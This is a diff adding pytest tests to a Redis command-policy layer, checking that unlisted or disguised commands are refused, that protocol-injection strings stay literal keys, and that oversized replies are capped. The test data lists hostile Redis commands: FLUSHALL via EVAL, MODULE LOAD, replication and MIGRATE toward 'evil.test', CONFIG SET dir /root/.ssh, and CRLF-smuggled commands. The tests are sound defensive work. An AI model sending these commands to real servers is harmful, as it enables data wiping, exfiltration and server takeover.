@@ -13,6 +13,7 @@ from remit.errors import PolicyDenied
 from remit.operations import OperationFailed
 from remit.operations.breaker import FAILURES
 from remit.operations.database import RedisPerformer
+from remit.operations.database.metering import MOST_BYTES
 from servers import Server, valkey
 
 from .conftest import Desk
@@ -91,6 +92,57 @@ async def test_a_command_that_fails_is_named(desk: Desk, url: str) -> None:
 async def test_commands_are_allowed_one_by_one(desk: Desk, url: str, command: list[str], told: str) -> None:
     with pytest.raises(PolicyDenied, match=told):
         await run(desk, url, ["GET", "a"], command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["EVAL", "return redis.call('FLUSHALL')", "0"],
+        ["FUNCTION", "LOAD", "#!lua name=x"],
+        ["FCALL", "f", "0"],
+        ["SCRIPT", "LOAD", "return 1"],
+        ["MODULE", "LOAD", "/tmp/x.so"],
+        ["SLAVEOF", "evil.test", "6379"],
+        ["REPLICAOF", "evil.test", "6379"],
+        ["MIGRATE", "evil.test", "6379", "a", "0", "1000"],
+        ["CONFIG", "SET", "dir", "/root/.ssh"],
+        ["SELECT", "1"],
+        ["SWAPDB", "0", "1"],
+        ["CLIENT", "KILL", "TYPE", "normal"],
+        ["GET FLUSHALL"],
+        ["CONFIG GET SET", "dir", "/"],
+        ["GET\r\nFLUSHALL", "x"],
+        ["CONFIG\tSET", "dir", "/"],
+        ["", "x"],
+    ],
+    ids=" ".join,
+)
+async def test_what_is_not_listed_is_refused_in_every_spelling(desk: Desk, url: str, command: list[str]) -> None:
+    with pytest.raises(PolicyDenied, match=r"does not allow|Remit keeps itself"):
+        await run(desk, url, command)
+
+
+async def test_a_word_is_a_word(desk: Desk, url: str) -> None:
+    """Line breaks, and keys that look like commands, are sent by their length."""
+    word = "a\r\n*1\r\n$8\r\nFLUSHALL\r\n"
+    assert await run(desk, url, ["SET", word, word], ["SET", "FLUSHALL", "1"]) == [True, True]
+    assert await run(desk, url, ["GET", word], ["GET", "FLUSHALL"]) == [word, "1"]
+
+
+async def test_replies_are_bounded_before_they_are_read(desk: Desk, url: str) -> None:
+    """Otherwise four words of a task would have the operator hold gigabytes."""
+    import redis
+
+    with redis.Redis.from_url(url) as server:
+        server.set("big", b"x" * MOST_BYTES)
+        server.set("half", b"x" * (MOST_BYTES // 2))
+    for command in (["GET", "big"], ["MGET", "half", "half"]):
+        with pytest.raises(OperationFailed, match="the commands took place") as caught:
+            await run(desk, url, ["INCR", "asked"], command)
+        assert (caught.value.reason, caught.value.retryable) == ("ReplyTooLarge", False)
+    for _ in range(3):  # each task has the whole of it, on the same connection
+        assert len(await run(desk, url, ["GET", "half"])) == 1
+    assert await run(desk, url, ["GET", "asked"]) == ["2"]
 
 
 async def test_a_subcommand_is_allowed_by_both_words(desk: Desk, url: str) -> None:
